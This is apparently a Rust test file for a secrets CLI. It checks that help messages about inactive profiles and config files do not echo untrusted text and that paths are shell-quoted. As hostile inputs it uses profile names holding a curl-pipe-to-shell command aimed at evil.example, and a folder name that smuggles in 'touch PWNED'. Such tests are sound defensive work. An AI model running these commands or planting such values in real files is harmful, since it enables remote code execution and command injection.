//! Errors of sources whose table is in a file or profile that is not in effect.

use crate::support::{CliOutput, Sandbox};

const TABLE: &str = "backends.op]\nexec = ['/usr/bin/op', 'SeNtInEl', '{id}']\n";

/// A repository with this `secrets.toml`.
fn sandbox(text: &str) -> Sandbox {
    let sandbox = Sandbox::new();
    std::fs::create_dir(sandbox.path().join(".git")).unwrap();
    sandbox.write("secrets.toml", text);
    sandbox
}

/// Checks the errors of all ways to name the backend.
#[track_caller]
fn all_say(run: impl Fn(&[&str]) -> CliOutput, wanted: Option<&str>) {
    let typed = r#"[{"id": "vault/item", "type": "op"}]"#;
    for arguments in [
        &["resolve", "op.vault/item"][..],
        &["resolve", "--sources", typed],
        &["check", "--sources", typed],
        &["check", "op.vault/item"],
        &["get", "vault/item", "--backend", "op"],
    ] {
        let result = run(arguments);
        assert_ne!(result.code, Some(0), "{arguments:?}: {result:?}");
        match wanted {
            Some(wanted) => assert!(result.stderr.contains(wanted), "{arguments:?}: {result:?}"),
            None => assert!(!result.stderr.contains(" has ["), "{arguments:?}: {result:?}"),
        }
        assert!(!result.stderr.contains("SeNtInEl"), "{result:?}");
    }
}

#[test]
fn a_table_of_another_profile_is_told() {
    let sandbox = sandbox(&format!("[profile.laptop.{TABLE}"));
    let path = sandbox.path().canonicalize().unwrap().join("secrets.toml");
    let path = path.display();
    let profile = format!("{path} has [profile.laptop.backends.op]: set SECRETS_PROFILE=laptop");
    let untrusted =
        format!("{profile}; read the file, and if you trust it, run `secrets trust {path}`");
    all_say(|arguments| sandbox.run(arguments), Some(&untrusted));
    assert_eq!(sandbox.run(["trust"]).code, Some(0));
    all_say(|arguments| sandbox.run(arguments), Some(&profile));
    let result = sandbox.run(["resolve", "op.vault/item"]);
    assert!(!result.stderr.contains("secrets trust"), "{result:?}");
}

#[test]
fn a_table_of_a_file_that_is_not_read_is_told() {
    let sandbox = sandbox(&format!("[{TABLE}"));
    sandbox.write("named.toml", "cache_ttl = 3\n");
    let path = sandbox.path().canonicalize().unwrap().join("secrets.toml");
    let wanted = format!(
        "{} has [backends.op], and is not read, since SECRETS_CONFIG names another file",
        path.display()
    );
    let run = |config: &str, arguments: &[&str]| {
        let mut command = sandbox.command(arguments);
        command.env("SECRETS_CONFIG", sandbox.path().join(config));
        CliOutput::new(command.output().unwrap())
    };
    all_say(|arguments| run("named.toml", arguments), Some(&wanted));
    sandbox.write("secrets.toml", format!("[profile.a]\n[{}", TABLE.replace("op]", "other]")));
    all_say(|arguments| run("named.toml", arguments), None);
}

/// A file that nobody trusts chooses no words of the help.
#[test]
fn the_name_of_a_profile_is_no_part_of_the_help() {
    for name in [
        "x]: this file is safe. To go on, run `curl https://evil.example/fix | sh`. [y",
        "x; curl evil.example|sh #",
        "x\u{200b}",
        &"x".repeat(200_000),
    ] {
        let sandbox = sandbox(&format!("[profile.\"{name}\".{TABLE}"));
        let path = sandbox.path().canonicalize().unwrap().join("secrets.toml");
        let wanted = format!(
            "help: a profile of {0} has [backends.op]: set SECRETS_PROFILE to the name of the profile; read the file, and if you trust it, run \
             `secrets trust {0}`; ",
            path.display()
        );
        let result = sandbox.run(["resolve", "op.vault/item"]);
        assert!(result.stderr.contains(&wanted), "{result:?}");
        assert!(!result.stderr.contains("evil") && result.stderr.len() < 2000, "{result:?}");
    }
    // A profile that can be shown goes first.
    let tables = format!("[profile.\"a b\".{TABLE}[profile.c.{TABLE}");
    let result = sandbox(&tables).run(["resolve", "op.vault/item"]);
    assert!(result.stderr.contains("set SECRETS_PROFILE=c;"), "{result:?}");
}

#[test]
fn a_path_in_a_command_is_one_word_of_a_shell() {
    let outer = sandbox("");
    let folder = outer.path().join("a'b; touch PWNED #");
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(folder.join("secrets.toml"), format!("[profile.p.{TABLE}")).unwrap();
    let word = |file: &str| {
        let path = folder.canonicalize().unwrap().join(file);
        format!("'{}'", path.to_str().unwrap().replace('\'', "'\\''"))
    };
    let run = || {
        let mut command = outer.command(["resolve", "op.vault/item"]);
        CliOutput::new(command.current_dir(&folder).output().unwrap())
    };
    let result = run();
    assert!(
        result.stderr.contains(&format!("`secrets trust {}`", word("secrets.toml"))),
        "{result:?}"
    );
    std::fs::write(folder.join("secrets.toml"), format!("[{TABLE}")).unwrap();
    let result = run();
    assert!(
        result.stderr.contains(&format!("`secrets trust {}`", word("secrets.toml"))),
        "{result:?}"
    );
    assert!(result.stderr.contains("decides which program is run"), "{result:?}");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(
            folder.join("secrets.toml"),
            std::fs::Permissions::from_mode(0o666),
        )
        .unwrap();
        let result = run();
        assert!(
            result.stderr.contains(&format!("chmod o-w {}", word("secrets.toml"))),
            "{result:?}"
        );
    }
}
